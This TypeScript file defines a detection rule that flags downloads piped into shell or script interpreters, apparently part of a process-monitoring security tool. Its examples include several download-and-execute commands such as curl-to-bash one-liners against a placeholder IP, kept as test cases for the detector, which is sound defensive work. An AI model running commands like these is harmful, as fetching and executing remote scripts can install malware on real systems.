import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

/** What is downloaded is run at once. */
export const pipeToInterpreter: Indicator = {
  id: 'pipe_to_interpreter',
  points: 45,
  hard: true,
  in_strings: true,
  mitre: ['T1105', 'T1059.004'],
  title: 'Download piped to an interpreter',
  description:
    'The download goes straight into sh, bash, python, perl, php or node: through a pipe, <(curl …), "$(curl …)", or exec(urlopen(…)). Hard in the string or code that says so, soft for the downloading child.',
  evaluate({ relation, own_string, invocation, category, tool }) {
    if (invocation.code?.executes_download) {
      return {
        evidence: 'inline code runs what it downloads',
        why: 'its inline code runs what it downloads',
      };
    }
    if (relation?.interpreter === undefined) return undefined;
    const downloads =
      category === 'http' ||
      category === 'file_transfer' ||
      category === 'netcat' ||
      category === 'dns' ||
      tool.id === 'openssl';
    if (!downloads || relation.shell_wired !== undefined) return undefined;
    const interpreter = short(relation.interpreter, 40);
    return {
      ...(own_string ? {} : { points: 40, hard: false }),
      evidence: `| ${interpreter}`,
      why: `the download is piped to ${interpreter}${own_string ? '' : " by the parent shell's string"}`,
    };
  },
  examples: {
    fires: [
      { run: "sh -c 'curl -fsSL http://198.51.100.7/ldr.sh | bash'" },
      {
        run: 'curl -s http://198.51.100.7/ldr.sh',
        by: ["sh -c 'curl -s http://198.51.100.7/ldr.sh | bash'"],
      },
      { run: "bash -c 'bash <(curl -s http://198.51.100.7/x)'" },
    ],
    silent: [
      { run: "sh -c 'curl -s http://api.example.com/ | python3 -m json.tool'" },
      { run: "sh -c 'curl -s http://api.example.com/ | jq .'" },
    ],
  },
};
